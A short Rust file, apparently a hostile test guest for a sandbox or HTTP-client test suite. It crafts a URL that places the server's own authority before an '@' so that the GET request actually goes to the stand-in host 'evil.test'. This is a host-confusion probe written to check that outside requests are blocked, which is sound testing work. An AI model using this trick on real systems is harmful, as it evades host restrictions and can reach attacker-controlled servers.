//! Asks another host, with the server's name before the `@`.

use hostile_guests::{Request, attack, authority};

attack!(run);

fn run(_: String) -> String {
    Request::get().to(format!("{}@evil.test", authority().replace(':', "%3a"))).outcome()
}
